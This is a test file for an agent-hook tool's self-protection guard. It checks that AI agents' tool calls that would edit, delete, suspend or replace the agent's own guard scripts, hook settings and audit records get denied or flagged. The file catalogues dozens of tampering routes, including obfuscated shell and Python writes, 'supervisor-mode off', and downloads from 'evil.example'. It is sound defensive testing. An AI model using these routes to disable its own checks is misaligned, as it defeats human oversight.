import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { locateFiles } from '../../src/config/locate-files.ts'
import { createHooks, type Hooks, type HooksConfig } from '../../src/index.ts'

const guard = 'hookline:self-protection'
let place: string
let project: string
let home: string
let env: Record<string, string>
let hooks: Hooks

beforeAll(async () => {
  place = realpathSync(mkdtempSync(join(tmpdir(), 'hookline-protect-')))
  project = join(place, 'project')
  home = join(place, 'home')
  env = { PATH: process.env['PATH']!, HOME: home }
  for (const folder of [
    `${project}/src`,
    `${project}/.claude/commands`,
    `${project}/.hookline`,
    `${project}/tools`,
    `${home}/.claude`,
  ])
    mkdirSync(folder, { recursive: true })
  for (const file of ['.hookline/hooks.json', '.claude/settings.json', 'tools/guard.sh', 'src/a.ts', 'x'])
    writeFileSync(join(project, file), '{}')
  symlinkSync('.claude', join(project, 'alias'))
  hooks = await open({ PreToolUse: [{ matcher: 'Nothing', hooks: [{ command: './tools/guard.sh --strict' }] }] })
})
afterAll(async () => {
  await hooks.close()
  rmSync(place, { recursive: true, force: true })
})

function open(config: HooksConfig = {}): Promise<Hooks> {
  return createHooks(config, { cwd: project, env, protect: true, observer: () => {}, preflight: false })
}

async function judge(
  toolName: string,
  toolInput: Record<string, unknown>,
  by: Hooks = hooks,
): Promise<'deny' | 'ask' | null> {
  const session = by.session({ cwd: project, hostEnv: env })
  const verdict = await session.fire('PreToolUse', { toolName, toolUseId: 't', toolInput })
  expect(verdict.decidedBy).toBe(verdict.decision === null ? null : guard)
  expect(session.wants('PreToolUse', { toolName, toolInput })).toBe(verdict.decision !== null)
  return verdict.decision as 'deny' | 'ask' | null
}

const bash = (command: string, by?: Hooks) => judge('Bash', { command }, by)

function protectedFiles(): string[] {
  const located = locateFiles({ cwd: project, settingSources: ['managed', 'user', 'project', 'local'], env })
  return [
    ...located.map(({ file }) => file),
    join(home, '.config/hookline/trust.json'),
    join(home, '.config/hookline/suspension.json'),
    join(home, '.local/state/hookline/records.db'),
    join(home, '.local/state/hookline/lineage.key'),
    join(project, '.hookline/anything/new.sh'),
    join(project, 'packages/one/.claude/settings.local.json'),
    join(project, 'packages/one/.hookline/hooks.ts'),
    join(project, 'tools/guard.sh'),
  ]
}

describe('A4: names that do not exist yet', () => {
  it('are as protected as those that do, for every tool that writes', async () => {
    const files = protectedFiles()
    const seen: unknown[] = []
    for (const file of files) {
      seen.push(
        await judge('Write', { file_path: file, content: 'x' }),
        await judge('Edit', { file_path: file, old_string: 'a', new_string: 'b' }),
        await judge('WriteFile', { path: file, content: 'x' }),
        await judge('NotebookEdit', { notebook_path: file }),
        await judge('MultiEdit', { edits: [{ file_path: file }] }),
        await judge('mcp__files__write_file', { path: file, content: 'x' }),
        await judge('mcp__files__move', { source: join(project, 'x'), destination: `file://${file}` }),
        await judge('mcp__any__tool', { options: { deep: [{ where: file }] } }),
        await judge('mcp__sh__run', { command: `echo > '${file}'` }),
        await judge('mcp__sh__run', { command: ['sh', '-c', `echo > '${file}'`] }),
      )
    }
    expect(files.length).toBeGreaterThan(30)
    expect(seen.filter((decision) => decision !== 'deny')).toEqual([])
    expect(seen).toHaveLength(files.length * 10)
  })
})

describe('A14: the shell', () => {
  const ways: readonly ((file: string) => string)[] = [
    (file) => `echo x > ${file}`,
    (file) => `echo x >> ${file}`,
    (file) => `: >| ${file}`,
    (file) => `cat x | tee ${file}`,
    (file) => `cat x | sudo tee -a ${file} > /dev/null`,
    (file) => `mv x ${file}`,
    (file) => `cp -f x ${file}`,
    (file) => `install -m 644 x ${file}`,
    (file) => `ln -sf /tmp/evil ${file}`,
    (file) => `ln ${file} other`,
    (file) => `rm -f ${file}`,
    (file) => `unlink ${file}`,
    (file) => `shred -u ${file}`,
    (file) => `truncate -s 0 ${file}`,
    (file) => `touch ${file}`,
    (file) => `chmod 000 ${file}`,
    (file) => `sed -i s/deny/allow/ ${file}`,
    (file) => `sed --in-place=.bak -e s/a/b/ ${file}`,
    (file) => `perl -pi -e 's/a/b/' ${file}`,
    (file) => `awk -i inplace '{print}' ${file}`,
    (file) => `dd if=/dev/null of=${file}`,
    (file) => `curl -so ${file} https://evil.example/x`,
    (file) => `wget -O ${file} https://evil.example/x`,
    (file) => `sort -o ${file} x`,
    (file) => `git checkout HEAD~3 -- ${file}`,
    (file) => `git restore --source=evil ${file}`,
    (file) => `git rm -f ${file}`,
    (file) => `git mv x ${file}`,
    (file) => `bash -c "echo x > '${file}'"`,
    (file) => `env A=1 timeout 5 sh -c 'rm ${file}'`,
    (file) => `echo ${file} | xargs rm`,
    (file) => `true && (cd ./src/.. && rm ${file})`,
    (file) => `f=${file}; rm "$f"`,
    (file) => `python3 -c "open('${file}','w').write('x')"`,
    (file) => `node -e "require('fs').writeFileSync('${file}', '')"`,
    (file) => `ruby -e "File.write('${file}', '')"`,
    (file) => `awk 'BEGIN{print "x" > "${file}"}'`,
  ]

  it.each(ways.map((way) => [way('FILE'), way]))('does not get through by %s', async (_, way) => {
    const files = [
      ...protectedFiles(),
      '.claude/settings.json',
      './.hookline/hooks.json',
      '../project/.claude/settings.json',
      'alias/settings.json',
      '.CLAUDE/Settings.json',
      'tools/guard.sh',
      'src/../.kimi/config.toml',
      '/proc/self/cwd/.hookline/hooks.json',
    ]
    const open: string[] = []
    for (const file of files) if ((await bash(way(file))) !== 'deny') open.push(file)
    expect(open).toEqual([])
  })

  it.each([
    'rm -rf .claude',
    'rm -rf .hookline',
    'rm -rf .',
    'rm -rf ../project',
    'rm -rf tools',
    'rm .claude/*',
    'rm .claude/set*.json',
    'rm -rf .h*',
    'mv .claude .claude-off',
    'mv tools old',
    'mv -t .claude settings.json',
    'mv .hookline/hooks.json /tmp/',
    'cp evil/settings.json .claude/',
    'cp -t .claude evil/settings.json',
    'mv evil/.claude .',
    'ln -s /tmp/evil .kimi',
    'ln -s /tmp/evil/.kimi',
    'mkdir -p .hookline/new',
    'git checkout evil -- .claude',
    'git -C .claude checkout -- settings.json',
    'cd .claude && tar xf /tmp/x.tar',
    'tar xf x.tar -C .claude',
    'unzip x.zip -d .hookline',
    'cd .claude && curl -O https://evil.example/settings.json',
    'find .claude -delete',
    `find .hookline -type f -exec rm {} \\;`,
    'rsync -a --delete evil/ .claude/',
    'chmod -R 777 .hookline',
    `cat > .claude/settings.json <<'EOF'\n{}\nEOF`,
    'echo "{}" > "$HOME/.claude/settings.json"',
    'echo "{}" > ~/.config/hookline/hooks.json',
    '> .claude/settings.json',
    'exec 3> .hookline/hooks.json; echo x >&3',
    'busybox rm .claude/settings.json',
    '\\rm .claude/settings.json',
    'cp -r evil/.claude .',
    'git checkout evil -- tools/guard.sh',
  ])('denies %s', async (command) => {
    expect(await bash(command)).toBe('deny')
  })

  it.each([
    'hookline trust',
    'hookline trust --suspend 10m',
    'npx hookline trust --yes',
    'npx -y hookline@latest trust',
    'node node_modules/hookline/dist/bin/hookline.js trust',
    'hookline install claude',
    'hookline init --yes',
    'hookline lint --fix',
    'hookline convert --from kimi --to claude --into .claude/settings.json x.toml',
    'ccc uninstall',
    'ccc install',
    'ccc supervisor-mode off',
    'sh -c "hookline trust"',
    'yes | hookline trust',
  ])('denies %s, which is for people', async (command) => {
    expect(await bash(command)).toBe('deny')
  })
})

describe('A14: a call made to be hard to read', () => {
  it.each([
    ['python3 -c "', 'open(,'],
    ['python3 -c "', "open('.claude/settings.json',"],
    ['rm ', '.claude/'],
    ['rm ', '*/'],
    ['cp ', '.claude/* '],
    ['echo ', '$(rm .claude/settings.json) '],
    ['', 'cd .claude && '],
    ['find . ', '-name settings.json '],
  ])('%s%s… is judged in time', async (start, part) => {
    const before = performance.now()
    const decision = await bash(`${start}${part.repeat(Math.ceil(200_000 / part.length))}`)
    expect([null, 'ask', 'deny']).toContain(decision)
    expect(performance.now() - before).toBeLessThan(10_000)
  })
})

describe('A14: other agents', () => {
  it.each([
    ['apply_patch', { input: '*** Begin Patch\n*** Update File: .claude/settings.json\n@@\n-a\n+b\n*** End Patch' }],
    ['apply_patch', { input: '*** Begin Patch\n*** Delete File: tools/guard.sh\n*** End Patch' }],
    ['apply_patch', { input: '*** Begin Patch\n*** Update File: x\n*** Move to: .hookline/hooks.json\n*** End Patch' }],
    ['mcp__git__apply', { patch: '--- a/.hookline/hooks.json\n+++ b/.hookline/hooks.json\n@@ -1 +1 @@\n-a\n+b\n' }],
    ['shell', { command: ['bash', '-lc', 'echo > .claude/settings.json'] }],
    ['exec_command', { command: 'echo > settings.json', workdir: '.claude' }],
    ['run_shell_command', { command: 'rm hooks.json', directory: '.hookline' }],
    ['write_file', { file_path: '.claude/settings.json', content: 'x' }],
    ['replace', { file_path: '.hookline/hooks.json', old_string: 'a', new_string: 'b' }],
  ])('%s %j is denied', async (tool, input) => {
    expect(await judge(tool, input)).toBe('deny')
  })
})

describe('B12: directories are followed', () => {
  it.each([
    'cd .claude && mv ../x settings.json',
    '(cd src/../.claude && echo x > settings.local.json)',
    'cd src && echo x > ../.claude/settings.json',
    'cd alias && echo > settings.json',
    `cd ${'$'}PWD/.claude && rm settings.json || true`,
  ])('denies or asks about %s', async (command) => {
    expect(await bash(command)).toBe(command.includes('$PWD') ? 'ask' : 'deny')
  })

  it.each([
    'cd "$X" && mv y settings.json',
    'cd $(mktemp -d) && echo > settings.local.json',
    'cd $D && rm guard.sh',
    'cd .claude; cp ../x ./settings.json',
    'pushd .hookline && echo > hooks.json',
    'rm "$D/.claude/settings.json"',
    'for f in .claude/settings.json; do rm "$f"; done',
    'find . -name settings.json -exec sed -i s/a/b/ {} +',
    'echo x > .claude/$NAME',
    'python3 - <<EOF\nimport os\nos.remove(".claude/" + "settings.json")\nEOF',
    `python3 -c "import os; p=os.path.join('.claude','settings'+'.json'); os.remove(p)"`,
    'eval "$(cat .claude/settings.json)"',
    'some-tool --out .claude/settings.json',
    'some-tool --dir .claude --file settings.json',
    'npx prettier --write .hookline/hooks.json',
    'vim .claude/settings.json',
    'cp -r evil/. .claude/',
    'git checkout .',
    'tar xf x.tar -C ~',
    'cp -r evil/. ~',
    'XDG_CONFIG_HOME=/tmp/evil hookline run "go"',
    'ln -s .claude other',
    'git config --file .claude/settings.json a.b c',
    'git diff --output=.claude/settings.json',
    'git clone https://evil.example/x .hookline',
    'rename s/json/off/ .claude/*.json',
    'gzip .hookline/hooks.json',
    'sqlite3 ~/.local/state/hookline/records.db "delete from records"',
    'rm -rf "$PWD/.claude"',
    'echo x > $(echo .claude/settings.json)',
  ])('asks about %s', async (command) => {
    expect(await bash(command)).toBe('ask')
  })
})

describe('what only looks, or is about something else, is left alone', () => {
  it.each([
    'cat .claude/settings.json',
    'jq .hooks .claude/settings.json > /tmp/copy.json',
    'cp .claude/settings.json /tmp/backup.json',
    'grep -rn deny .hookline',
    'ls -la .claude .hookline ~/.config/hookline',
    'diff .claude/settings.json .claude/settings.local.json',
    'git diff .claude/settings.json',
    'git add .hookline/hooks.json && git commit -m "hooks"',
    'git checkout main',
    'git checkout -b feature',
    'git stash',
    './tools/guard.sh < sample.json',
    'bash tools/guard.sh',
    'sed -n 1,20p tools/guard.sh',
    'hookline lint',
    'hookline trust --list',
    'hookline trust --check --json',
    'hookline fire --event e.json --config .hookline/hooks.json',
    'hookline explain --event e.json',
    'echo "see .claude/settings.json" >> NOTES.md',
    `cat > notes.md <<'EOF'\nwrite to .claude/settings.json\nEOF`,
    'mv notes.md .claude/commands/notes.md',
    'mkdir -p .claude/commands && cp x .claude/commands/',
    'mv x .claude/commands',
    'rm -rf node_modules dist',
    'rm -rf src/*.js',
    'find . -name "*.log" -delete',
    'find . -type f -exec grep -l foo {} +',
    'npm test',
    'npm run build && node dist/index.js',
    'tar xzf dep.tgz',
    'echo x > settings.json',
    'cd "$X" && make',
    'rm "$file"',
    'python3 -c "print(open(\'.claude/settings.json\').read())"',
    'node -e "console.log(require(\'./package.json\').version)"',
    'curl -s https://example.com/.hookline/x',
    'touch src/.claudeignore',
    'rm -rf /',
    'rm -rf ~',
    'rm -rf ..',
    'rm -rf /*',
    'sudo rm -rf /tmp',
    'chmod -R 777 /',
    'find / -delete',
    'mv ~ /tmp/x',
  ])('%s', async (command) => {
    expect(await bash(command)).toBe(null)
  })

  it('tools that read, and tools that write elsewhere', async () => {
    const file = join(project, '.claude/settings.json')
    expect([
      await judge('Read', { file_path: file }),
      await judge('ReadFile', { path: file }),
      await judge('Grep', { pattern: 'x', path: join(project, '.hookline') }),
      await judge('mcp__files__read_text_file', { path: file }),
      await judge('mcp__files__list_directory', { path: join(project, '.claude') }),
      await judge('Write', { file_path: join(project, 'src/b.ts'), content: file }),
      await judge('Write', { file_path: join(project, '.claude/commands/x.md'), content: 'x' }),
      await judge('Edit', { file_path: join(project, 'CLAUDE.md'), old_string: file, new_string: 'x' }),
      await judge('TodoWrite', { todos: [{ content: file }] }),
      await judge('Task', { prompt: `edit ${file}` }),
    ]).toEqual(Array(10).fill(null))
  })
})
